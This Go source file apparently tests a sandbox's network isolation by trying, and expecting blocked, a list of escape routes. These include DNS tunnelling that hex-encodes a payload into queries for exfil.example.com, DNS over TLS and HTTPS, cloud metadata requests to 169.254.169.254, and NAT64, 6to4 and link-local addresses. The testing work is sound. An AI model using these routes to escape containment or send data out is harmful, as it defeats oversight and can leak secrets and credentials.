package bypass

import (
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"net/netip"
	"strings"

	"golang.org/x/sys/unix"
)

const (
	portDNS = 53
	portDoT = 853
	typeA   = 1
	typeTXT = 16
	rcodeNX = 3
)

// tunnelName has data in it, for whoever answers for example.com.
var tunnelName = hex.EncodeToString(payload) + ".exfil.example.com"

// Forms of addresses, and servers of names, by which one gets out.
var nameAttempts = []Attempt{
	{Name: "dns-udp", Tries: "asks a resolver outside", Families: both, Must: everywhere(ByResolver), do: asking("www.example.com", typeA)},
	{
		Name: "dns-tunnel", Tries: "asks for a name that carries data", Families: both, Must: everywhere(ByResolver),
		do: asking(tunnelName, typeTXT),
	},
	{Name: "dns-tcp", Tries: "asks a resolver outside over TCP", Families: both, Must: everywhere(ByRedirect), do: dialing(portDNS, connect, sendQuery)},
	{Name: "dns-over-tls", Tries: "connects to port 853", Families: both, Must: everywhere(ByRedirect), do: dialing(portDoT, connect, sendHello)},
	{Name: "dns-over-https", Tries: "asks a resolver outside over HTTPS", Families: both, Must: everywhere(ByRedirect), do: dialing(443, connect, sendHello)},
	{Name: "http", Tries: "asks a web server outside", Families: both, Must: everywhere(ByRedirect), do: dialing(80, connect, sendHTTP)},
	{Name: "metadata", Tries: "connects to the cloud's metadata service", Families: both, Must: boxed(by(ByRedirect), ByNamespace), do: metadata},
	{
		Name: "link-local", Tries: "connects to a link-local address, by its zone", Families: only6,
		Must: boxed(by(ByRedirect, ByDevice, ByEgress), ByNamespace), do: linkLocal,
	},
	{
		Name: "nat64", Tries: "connects to an IPv4 address inside of an IPv6 one, by way of NAT64", Families: only6, Must: everywhere(ByRedirect),
		do: func(t *try) error { return t.tcp(at(embedded("64:ff9b::", 12, t.Far4), 443), connect) },
	},
	{
		Name: "6to4", Tries: "connects to an IPv4 address inside of an IPv6 one, by way of 6to4", Families: only6, Must: everywhere(ByRedirect),
		do: func(t *try) error { return t.tcp(at(embedded("2002::2", 2, t.Far4), 443), connect) },
	},
}

// embedded puts an IPv4 address into an IPv6 one.
func embedded(prefix string, offset int, a netip.Addr) netip.Addr {
	b := netip.MustParseAddr(prefix).As16()
	copy(b[offset:], a.AsSlice())
	return netip.AddrFrom16(b)
}

// metadata is not tried on a host whose own would hear it.
func metadata(t *try) error {
	if !t.Everything {
		return fmt.Errorf("%w: this host's own would hear it", errAbsent)
	}
	if t.family == V6 {
		return t.tcp(at(netip.MustParseAddr("fd00:ec2::254"), 80), connect, sendHTTP)
	}
	return t.tcp(at(netip.MustParseAddr("169.254.169.254"), 80), connect, sendHTTP)
}

func linkLocal(t *try) error {
	to := at(netip.MustParseAddr("fe80::7374").WithZone(t.Device), 443)
	if sa, ok := raw(to).(*unix.SockaddrInet6); ok && sa.ZoneId == 0 {
		return fmt.Errorf("there is no device %s", t.Device)
	}
	return t.tcp(to, connect)
}

func sendHTTP(_ *try, fd int, _ netip.AddrPort) error {
	return named("send", unix.Send(fd, []byte("GET /latest/meta-data/ HTTP/1.0\r\n\r\n"), unix.MSG_NOSIGNAL))
}

// sendHello sends the beginning of a TLS handshake: who would answer, answers.
func sendHello(_ *try, fd int, _ netip.AddrPort) error {
	return named("send", unix.Send(fd, []byte{0x16, 3, 1, 0, 5, 1, 0, 0, 1, 3}, unix.MSG_NOSIGNAL))
}

func sendQuery(_ *try, fd int, _ netip.AddrPort) error {
	q := query("www.example.com", typeA)
	return named("send", unix.Send(fd, append(binary.BigEndian.AppendUint16(nil, uint16(len(q))), q...), unix.MSG_NOSIGNAL))
}

// query is a question (RFC 1035, section 4.1).
func query(name string, kind uint16) []byte {
	q := []byte{0x70, 0x73, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for label := range strings.SplitSeq(name, ".") {
		q = append(append(q, byte(len(label))), label...)
	}
	return append(q, 0, byte(kind>>8), byte(kind), 0, 1)
}

// resolves asks for a name that the gateway's resolver knows.
func (t *try) resolves(name string) error {
	answer, err := t.lookup(name, typeA)
	if err != nil {
		return err
	}
	if t.banner(answer) {
		return nil // it is for the list to say that this is a way out
	}
	if code, count := answer[3]&15, binary.BigEndian.Uint16(answer[6:]); code != 0 || count == 0 {
		return fmt.Errorf("%d answers, code %d", count, code)
	}
	return nil
}

// lookup asks a resolver outside, and returns whose answer ever that comes.
func (t *try) lookup(name string, kind uint16) ([]byte, error) {
	to := at(t.far(), portDNS)
	fd, err := open(domainOf(to.Addr()), unix.SOCK_DGRAM, 0, udpPatience)
	if err != nil {
		return nil, err
	}
	defer unix.Close(fd)
	if err := unix.Sendto(fd, query(name, kind), 0, raw(to)); err != nil {
		return nil, named("sendto", err)
	}
	buf := make([]byte, 512)
	n, _, err := unix.Recvfrom(fd, buf, 0)
	if err != nil {
		return nil, named("receive", err)
	}
	if n < 12 && !t.banner(buf[:n]) {
		return nil, errors.New("an answer that is none")
	}
	return buf[:n], nil
}

// asking is open when a resolver outside answers, and stopped when the
// gateway's own does.
func asking(name string, kind uint16) func(*try) error {
	return func(t *try) error {
		answer, err := t.lookup(name, kind)
		switch {
		case err != nil:
			return err
		case t.banner(answer):
			return nil
		case answer[3]&15 == rcodeNX:
			return errors.New("the gateway's resolver knows no such name")
		}
		return fmt.Errorf("the gateway's resolver answered with code %d", answer[3]&15)
	}
}
